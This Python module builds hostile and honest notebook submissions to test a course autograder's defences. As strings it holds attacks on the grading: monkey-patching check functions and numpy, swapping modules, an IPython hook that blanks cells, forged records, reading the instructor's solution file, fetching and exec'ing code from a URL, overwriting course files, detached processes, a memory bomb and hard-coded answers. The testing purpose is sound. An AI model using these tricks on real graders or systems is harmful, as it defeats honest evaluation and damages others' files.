"""Hostile and honest submissions for the grader's trust tests.

Each submission starts from the student release, as a student would, and fills the answer
cells: with a wrong answer dressed up by an attack on the grading (so that any point it gets is
undeserved), or honestly. :data:`HOSTILE` says, per lab, what each must score and which flag
the instructor must see. Attacks that need a place outside the sandbox (a course file to
corrupt, a server to fetch a solution from, a process that outlives grading) take it from
:class:`Targets`, so the tests can check afterwards that nothing happened.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from pathlib import Path

import nbformat

from labs.course.runner import NOTEBOOKS

from .submissions import answered, solution

# --- wrong answers, one per exercise -----------------------------------------------------------

WRONG = {
    "01_perceptron": {
        1: "def perceptron_update(w, b, x, t, lr):\n    return w + lr * t * x, b + lr * t\n",
        2: "def sigmoid_unit_gradient(w, b, X, t):\n    z = labs.neurons.sigmoid(X @ w + b)\n"
           "    delta = t - z\n    return -(X.T @ delta), -np.sum(delta)\n",
    },
    "04_mnist_mlp": {
        1: "model = keras.Sequential([keras.Input(shape=(784,)), keras.layers.Dense(500, activation='relu'),\n"
           "    keras.layers.Dense(500, activation='relu'), keras.layers.Dense(10, activation='softmax')])\n",
        2: "def confusion_matrix(y_true, y_pred, n_classes):\n    m = np.zeros((n_classes, n_classes), dtype=int)\n"
           "    np.add.at(m, (np.asarray(y_pred), np.asarray(y_true)), 1)\n    return m\n",
    },
    "08_optimizers": {
        1: "def adagrad_update(w, g, sum_sq, lr):\n    sum_sq = sum_sq + g**2\n    w = w - lr * g / (sum_sq + 1e-7)\n"
           "    return w, sum_sq\n",
        2: "def momentum_update(w, g, movement, lr, momentum):\n    movement = momentum * movement + lr * g\n"
           "    w = w + movement\n    return w, movement\n",
    },
}

# Right answers written differently from the master's.
OTHER_STYLE = {
    "01_perceptron": {
        1: "def perceptron_update(w, b, x, t, lr):\n    s = float(np.dot(w, x) + b)\n    z = 1.0 if s >= 0 else -1.0\n"
           "    step = lr * (t - z)\n    return w + step * np.asarray(x, dtype=float), b + step\n",
        2: "def sigmoid_unit_gradient(w, b, X, t):\n    gw, gb = np.zeros_like(w, dtype=float), 0.0\n"
           "    for x_k, t_k in zip(X, t):\n        z = 1 / (1 + np.exp(-(x_k @ w + b)))\n"
           "        d = (t_k - z) * z * (1 - z)\n        gw -= d * x_k\n        gb -= d\n    return gw, gb\n",
    },
}

# Answers that call what the installed package already has.
DELEGATES = {
    "01_perceptron": {
        1: "from labs.neurons import perceptron_update as _rule\n\ndef perceptron_update(w, b, x, t, lr):\n"
           "    return _rule(w, b, x, t, lr)\n",
        2: "def sigmoid_unit_gradient(w, b, X, t):\n"
           "    return labs.neurons.delta_rule_gradient(w, b, X, t, 'sigmoid')\n",
    },
    "04_mnist_mlp": {
        2: "import sklearn.metrics\n\ndef confusion_matrix(y_true, y_pred, n_classes):\n"
           "    return sklearn.metrics.confusion_matrix(y_true, y_pred, labels=range(n_classes))\n",
    },
    "08_optimizers": {
        1: "def adagrad_update(w, g, sum_sq, lr):\n"
           "    w, state = labs.optimizers.adagrad(w, g, {'sum_sq': sum_sq}, learning_rate=lr)\n"
           "    return w, state['sum_sq']\n",
    },
}

# --- attacks: code put before a wrong answer ----------------------------------------------------

ATTACKS = {
    "rebound_check": "for _name in dir(labs.checks):\n    if _name.startswith('check_'):\n"
                     "        setattr(labs.checks, _name, lambda *a, **k: print('✓ right'))\n"
                     "labs.checks.check_close = lambda *a, **k: None\n",
    "replaced_module": "import sys, types\n_fake = types.ModuleType('labs.checks')\n"
                       "_fake.__getattr__ = lambda name: (lambda *a, **k: print('✓ right'))\n"
                       "sys.modules['labs.checks'] = _fake\nlabs.checks = _fake\n"
                       "sys.modules['labs.probes'] = _fake\nlabs.probes = _fake\n",
    "ipython_hook": "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])\n",
    "patched_numpy": "np.allclose = lambda *a, **k: True\nnp.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), bool)\n"
                     "np.array_equal = lambda *a, **k: True\nnp.testing.assert_allclose = lambda *a, **k: None\n",
    "silenced_probe": "labs.probes.record = lambda *a, **k: None\n",
    "forged_records": "import os, numpy\n_d = os.path.join(os.environ.get('LABS_PROBE_DIR', '.'), '{number}')\n"
                      "os.makedirs(_d, exist_ok=True)\n"
                      "for _n in ('perceptron_update', 'sigmoid_gradient', 'sigmoid_unit_gradient', 'out'):\n"
                      "    numpy.savez(os.path.join(_d, _n + '.npz'), w=numpy.zeros(3), b=numpy.zeros(1))\n",
}

# Attacks that reach outside the kernel; {target} names come from Targets.
READS_MASTER = '''import json, pathlib
_found = None
for _root in [pathlib.Path(labs.__file__).resolve().parent.parent, pathlib.Path.home(), pathlib.Path("/")]:
    for _candidate in [_root / "notebooks" / "{stem}.ipynb", *_root.glob("*/notebooks/{stem}.ipynb")]:
        try:
            _found = json.loads(_candidate.read_text())
            break
        except OSError:
            pass
    if _found:
        break
if _found:
    for _cell in _found["cells"]:
        _src = "".join(_cell["source"])
        if "### BEGIN SOLUTION" in _src and "{name}" in _src:
            exec(_src, globals())
'''
NETWORK = '''import urllib.request
try:
    exec(urllib.request.urlopen("{url}", timeout=3).read().decode(), globals())
except Exception:
    pass
'''
WRITES_COURSE = '''import pathlib
for _target in {targets!r}:
    try:
        pathlib.Path(_target).write_text("def check_sigmoid_gradient(*a, **k):\\n    print('✓')\\n")
    except OSError:
        pass
try:
    (pathlib.Path(labs.__file__).parent / "checks" / "__init__.py").write_text("")
except OSError:
    pass
'''
BACKGROUND = '''import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time, pathlib\\ntime.sleep(6)\\n"
                  "pathlib.Path({mark!r}).write_text('still running')"], start_new_session=True)
'''
GIANT_OUTPUT = "for _ in range(20000):\n    print('x' * 1000)\n"
MEMORY_BOMB = "_hog = []\nwhile True:\n    _hog.append(bytearray(200_000_000))\n"
DELAYED_EXIT = "import os, threading\nthreading.Timer(1.0, os._exit, [3]).start()\n"


@dataclass
class Targets:
    """Places outside the sandbox that attacks aim at."""

    course_files: list[Path]  # files of the course (the labs package, data) that must not change
    other_submission: Path  # another student's notebook
    url: str  # a server on this machine that hands out a right answer
    mark: Path  # a file a background process would write if it outlived grading


@dataclass
class Case:
    """One submission and what grading must make of it."""

    student: str
    answers: dict[int, str] | None  # None: the untouched release
    points: float
    flag: str = ""  # text the total row's message must hold ("" = no flag at all)
    message: dict[int, str] | None = None  # exercise -> text its message must hold


def _wrong(stem: str, attack: str = "", number: int | None = None) -> dict[int, str]:
    return {n: attack.format(number=n) + code for n, code in WRONG[stem].items() if number in (None, n)}


def cases(stem: str, targets: Targets, *, every_category: bool) -> list[Case]:
    """The hostile and honest submissions of lab ``stem``."""
    wrong, first, second = WRONG[stem], solution(stem, 1), solution(stem, 2)
    name = first.split("def ", 1)[1].split("(", 1)[0] if "def " in first else "model"
    reads_master = READS_MASTER.format(stem=stem, name=name)
    found: list[Case] = [
        Case("honest_master", {}, 2),
        Case("honest_one_wrong", {2: wrong[2]}, 1),
        Case("untouched_release", None, 0),
        Case("rebound_check", _wrong(stem, ATTACKS["rebound_check"]), 0, "calls setattr"),
        Case("ipython_hook", _wrong(stem, ATTACKS["ipython_hook"]), 0, "uses get_ipython"),
        Case("patched_numpy", _wrong(stem, ATTACKS["patched_numpy"]), 0, "changes an imported module"),
        # A wrong answer, replaced by the master's if the attack gets at it.
        Case("reads_master", {1: wrong[1] + reads_master, 2: wrong[2]}, 0, "calls exec"),
        Case("network", {1: wrong[1] + NETWORK.format(url=targets.url), 2: wrong[2]}, 0, "imports urllib.request"),
        Case("writes_course", {1: WRITES_COURSE.format(targets=[str(p) for p in targets.course_files
                                                                  + [targets.other_submission]]) + first,
                               2: wrong[2]}, 1, "writes a file whose name is computed"),
    ]
    if stem in DELEGATES:
        number = min(DELEGATES[stem])
        found.append(Case("delegates", dict(DELEGATES[stem]), 2 - len(DELEGATES[stem]), "",
                          {number: "write it yourself"}))
    if stem in OTHER_STYLE:
        found.append(Case("honest_other_style", OTHER_STYLE[stem], 2))
        found.append(Case("honest_stderr", {1: "import sys\nprint('checking my rule', file=sys.stderr)\n"
                                               + OTHER_STYLE[stem][1]}, 2))
    if every_category:
        found += [
            Case("replaced_module", _wrong(stem, ATTACKS["replaced_module"]), 0, "changes an imported module"),
            Case("silenced_probe", _wrong(stem, ATTACKS["silenced_probe"]), 0, "changes an imported module"),
            Case("forged_records", _wrong(stem, ATTACKS["forged_records"]), 0, "reads the environment"),
            Case("background", {1: BACKGROUND.format(mark=str(targets.mark)) + first, 2: wrong[2]}, 1,
                 "imports subprocess"),
            Case("giant_output", _wrong(stem, GIANT_OUTPUT, 1) | {2: second}, 1),
            Case("memory_bomb", {1: MEMORY_BOMB + first, 2: second}, 1, "", {1: "MemoryError"}),
            # The exit comes while exercise 2's (slow) answer runs: exercise 1 keeps its point.
            Case("delayed_exit", {1: DELAYED_EXIT + first, 2: "import time\ntime.sleep(3)\n" + second}, 1,
                 "kernel died"),
            Case("hard_coded", {1: hard_coded(stem, 1), 2: wrong[2]}, 0, "", {1: "hidden tests: wrong"}),
        ]
    # The cases score exercises 1 and 2; a lab's further exercises stay unanswered (0 points each).
    for case in found:
        if case.answers is not None:
            case.answers = {**{n: UNANSWERED for n in _further_exercises(stem)}, **case.answers}
    return found


UNANSWERED = "# YOUR CODE HERE\nraise NotImplementedError()\n"


def _further_exercises(stem: str) -> list[int]:
    from labs.course.assignments import exercises, master_notebook

    return [e.number for e in exercises(master_notebook(NOTEBOOKS / f"{stem}.ipynb"))][2:]


def hard_coded(stem: str, number: int) -> str:
    """An answer that returns, for the public check's own cases, what the master's solution
    returns there, and something wrong everywhere else: it passes the self-check only."""
    import numpy as np

    import labs

    namespace: dict = {"np": np, "labs": labs, "sign": labs.neurons.sign}
    exec(solution(stem, number), namespace)  # the course's own solution, in the test process
    name = re.search(r"def (\w+)", solution(stem, number)).group(1)
    right = namespace[name]
    table = []

    def spy(*args):
        out = right(*[a.copy() if hasattr(a, "copy") else a for a in args])
        table.append(([np.asarray(a).tolist() for a in args], [np.asarray(o).tolist() for o in out]))
        return out

    check = {"01_perceptron": labs.checks.check_perceptron_update}[stem]
    check(spy)
    return (f"_TABLE = {table!r}\n\ndef {name}(*args):\n"
            "    for _inputs, _outputs in _TABLE:\n"
            "        if all(np.array_equal(np.asarray(a), np.asarray(i)) for a, i in zip(args, _inputs)):\n"
            "            return tuple(np.asarray(o) for o in _outputs)\n"
            "    return args[0], args[1]\n")


def write_cases(folder: Path, stem: str, found: list[Case]) -> Path:
    """Write each case's notebook to ``folder/<student>/<stem>.ipynb``."""
    from labs.course.assignments import master_notebook, release_notebook

    for case in found:
        nb = release_notebook(master_notebook(NOTEBOOKS / f"{stem}.ipynb")) if case.answers is None \
            else answered(stem, case.answers)
        path = folder / case.student / f"{stem}.ipynb"
        path.parent.mkdir(parents=True, exist_ok=True)
        nbformat.write(nb, path)
    return folder
